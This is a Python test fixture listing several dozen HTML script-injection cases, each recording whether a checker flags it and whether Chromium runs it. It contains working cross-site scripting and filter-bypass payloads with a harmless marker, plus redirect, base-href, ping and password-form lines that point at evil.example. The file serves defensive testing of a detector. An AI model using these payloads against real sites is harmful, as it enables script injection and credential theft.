"""Article markup that runs script, or looks as if it could: each case with whether ``oo check``
flags it as ``article-script`` and whether Chromium runs its script with no click (proved in
tests/browser/test_article_script_chromium.py). A case that runs is always flagged; a case that
does not run may be flagged all the same (a ``javascript:`` URL, a ``<base>``: what the page or
a click could still make run)."""

from __future__ import annotations

from typing import NamedTuple

__all__ = ["PWN", "SCRIPT_MARKUP", "ScriptCase"]

PWN = "document.documentElement.dataset.pwn=1"
_E = PWN.replace("=", "&#61;")


class ScriptCase(NamedTuple):
    html: str
    flagged: bool  # oo check reports article-script
    # Chromium runs it on opening the page, with no click (None: on some openings and not others
    # here, as the frame's load races the page's script; ``oo check`` reports it either way)
    runs: bool | None


SCRIPT_MARKUP: dict[str, ScriptCase] = {
    # run in Chromium with no click: each flagged
    "img onerror": ScriptCase(f'<p>x<img src=x onerror="{PWN}"></p>', True, True),
    "img ONERROR upper case": ScriptCase(f'<p>x<IMG SRC=x ONERROR="{PWN}"></p>', True, True),
    "handler with entities": ScriptCase(f'<img src=x onerror="{_E}">', True, True),
    "declarative shadow root": ScriptCase(
        f'<div><template shadowrootmode="open"><img src=x onerror="{PWN}"></template></div>',
        True,
        True,
    ),
    "nested declarative shadow roots": ScriptCase(
        '<div><template shadowrootmode="closed"><span><template shadowrootmode="open">'
        f'<img src=x onerror="{PWN}"></template></span></template></div>',
        True,
        True,
    ),
    "details open ontoggle": ScriptCase(
        f'<details open ontoggle="{PWN}"><summary>s</summary>x</details>', True, True
    ),
    "input autofocus onfocus": ScriptCase(f'<input autofocus onfocus="{PWN}">', True, True),
    "custom element autofocus": ScriptCase(
        f'<xx-y tabindex=1 autofocus onfocus="{PWN}">x</xx-y>', True, True
    ),
    "contenteditable autofocus": ScriptCase(
        f'<div contenteditable autofocus onfocus="{PWN}">x</div>', True, True
    ),
    "video source onerror": ScriptCase(f'<video><source onerror="{PWN}"></video>', True, True),
    "iframe javascript src": ScriptCase(
        f'<iframe src="javascript:parent.{PWN}"></iframe>', True, True
    ),
    "style onload": ScriptCase(f'<style onload="{PWN}"></style>', True, True),
    "script in svg with entities": ScriptCase(f"<svg><script>{_E}</script></svg>", True, True),
    "noscript breakout": ScriptCase(
        f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>', True, True
    ),
    "xmp breakout": ScriptCase(f"<xmp></xmp ><img src=x onerror={PWN}></xmp>", True, True),
    "img in a select option": ScriptCase(
        f'<select><option><img src=x onerror="{PWN}"></option></select>', True, True
    ),
    "selectedcontent": ScriptCase(
        "<select><button><selectedcontent></selectedcontent></button>"
        f'<option><img src=x onerror="{PWN}">o</option></select>',
        True,
        True,
    ),
    "p breaking out of svg": ScriptCase(f'<svg><p><img src=x onerror="{PWN}"></svg>', True, True),
    "popover toggle": ScriptCase(
        f'<div popover id=pp ontoggle="{PWN}">x</div>'
        "<img src=x onerror=\"document.getElementById('pp').showPopover()\">",
        True,
        True,
    ),
    "img fostered out of a table": ScriptCase(
        f'<table><img src=x onerror="{PWN}"><tr><td>x</td></tr></table>', True, True
    ),
    # do not run here (no click, or Chromium refuses), flagged all the same
    "script type module": ScriptCase(f'<script type="module">{PWN}</script>', True, False),
    "svg onload": ScriptCase(f'<svg onload="{PWN}"></svg>', True, False),
    "svg in a declarative shadow root": ScriptCase(
        f'<div><template shadowrootmode="open"><svg onload="{PWN}"></svg></template></div>',
        True,
        False,
    ),
    "svg animate onbegin": ScriptCase(
        f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s></animate></svg>', True, False
    ),
    "svg set of an event handler": ScriptCase(
        f'<svg><set attributeName="onmouseover" to="{PWN}"/></svg>', True, False
    ),
    "body attribute": ScriptCase(f'<body onpageshow="{PWN}">', True, False),
    "iframe srcdoc": ScriptCase(
        f'<iframe srcdoc="<img src=x onerror=&quot;parent.{PWN}&quot;>"></iframe>', True, None
    ),
    "object javascript data": ScriptCase(
        f'<object data="javascript:parent.{PWN}"></object>', True, False
    ),
    "embed javascript src": ScriptCase(f'<embed src="javascript:parent.{PWN}">', True, False),
    "meta refresh": ScriptCase(
        '<meta http-equiv="refresh" content="30;url=https://evil.example/">', True, False
    ),
    "marquee onstart": ScriptCase(f'<marquee onstart="{PWN}">m</marquee>', True, False),
    "maction autofocus": ScriptCase(
        f'<math><maction actiontype="statusline" onfocus="{PWN}" tabindex=1 autofocus>x'
        "</maction></math>",
        True,
        False,
    ),
    "base href": ScriptCase('<base href="https://evil.example/">', True, False),
    "javascript link with a tab": ScriptCase(
        f'<p><a href="java&#9;script:{PWN}">click</a></p>', True, False
    ),
    "data html frame": ScriptCase(
        '<iframe src="data:text/html,<script>parent.x=1</script>"></iframe>', True, False
    ),
    "vbscript link": ScriptCase('<p><a href=" VBScript:msgbox(1)">v</a></p>', True, False),
    # neither run nor flagged
    "a plain template": ScriptCase(
        f'<template><img src=x onerror="{PWN}"></template>', False, False
    ),
    "slashes glue the handler into src": ScriptCase(
        f"<p>x<img/src=x/onerror={PWN}></p>", False, False
    ),
    "script after a comment bang": ScriptCase(f"<!--!><script>{PWN}</script>-->", False, False),
    "a ping": ScriptCase(
        '<a href="https://x.example/" ping="https://evil.example/t">x</a>', False, False
    ),
    "a form": ScriptCase(
        '<form action="https://evil.example/login" method=post><input name=password '
        "type=password><button>Log in</button></form>",
        False,
        False,
    ),
    "svg image in an img": ScriptCase(
        '<p><img src="data:image/svg+xml,%3Csvg%3E%3C/svg%3E" alt="a"></p>', False, False
    ),
    "javascript after a semicolon in a path": ScriptCase(
        '<p><a href="https://a.example/x;javascript:1">x</a></p>', False, False
    ),
    "the word on in text and a title": ScriptCase(
        '<p title="on click">click on it, onerror=1</p>', False, False
    ),
}
